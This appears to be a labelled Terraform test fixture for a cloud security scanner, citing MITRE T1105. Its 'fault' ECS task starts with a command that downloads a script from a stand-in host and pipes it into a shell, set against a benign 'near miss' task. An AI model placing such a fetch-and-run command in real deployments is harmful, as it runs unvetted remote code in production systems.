# A container starts with a shell that downloads and runs a script.
# Source: https://attack.mitre.org/techniques/T1105/
# Fault at: aws_ecs_task_definition.ecscmd_fault
# Near miss at: aws_ecs_task_definition.ecscmd_near

resource "aws_iam_role" "ecscmd_role" {
  name               = "shop-prod-ecscmd-role"
  assume_role_policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { Service = "ecs-tasks.amazonaws.com" } }] })
}

resource "aws_ecr_repository" "ecscmd_repo" {
  name                 = "shop-prod-ecscmd"
  image_tag_mutability = "IMMUTABLE"
}

resource "aws_ecs_task_definition" "ecscmd_fault" {
  family                   = "shop-prod-ecscmd-fault"
  requires_compatibilities = ["FARGATE"]
  network_mode             = "awsvpc"
  cpu                      = 256
  memory                   = 512
  execution_role_arn       = aws_iam_role.ecscmd_role.arn
  task_role_arn            = aws_iam_role.ecscmd_role.arn

  container_definitions = jsonencode([{
    name                   = "app"
    image                  = "public.ecr.aws/docker/library/alpine:3.20"
    essential              = true
    entryPoint             = ["/bin/sh", "-c"]
    command                = ["wget -qO- https://get.example.net/c | sh"]
    cpu                    = 256
    memory                 = 512
    user                   = "1000"
    readonlyRootFilesystem = true
    healthCheck            = { command = ["CMD-SHELL", "true"], interval = 30, retries = 3, timeout = 5 }
    logConfiguration       = { logDriver = "awslogs", options = { "awslogs-group" = "/shop-prod/ecscmd", "awslogs-region" = var.region, "awslogs-stream-prefix" = "app" } }
  }])
}

resource "aws_ecs_task_definition" "ecscmd_near" {
  family                   = "shop-prod-ecscmd-near"
  requires_compatibilities = ["FARGATE"]
  network_mode             = "awsvpc"
  cpu                      = 256
  memory                   = 512
  execution_role_arn       = aws_iam_role.ecscmd_role.arn
  task_role_arn            = aws_iam_role.ecscmd_role.arn

  container_definitions = jsonencode([{
    name                   = "app"
    image                  = "public.ecr.aws/docker/library/alpine:3.20"
    essential              = true
    entryPoint             = ["/bin/sh", "-c"]
    command                = ["exec /app/server --port 8080"]
    cpu                    = 256
    memory                 = 512
    user                   = "1000"
    readonlyRootFilesystem = true
    healthCheck            = { command = ["CMD-SHELL", "wget -qO- http://localhost:8080/healthz | grep ok"], interval = 30, retries = 3, timeout = 5 }
    logConfiguration       = { logDriver = "awslogs", options = { "awslogs-group" = "/shop-prod/ecscmd", "awslogs-region" = var.region, "awslogs-stream-prefix" = "app" } }
  }])
}
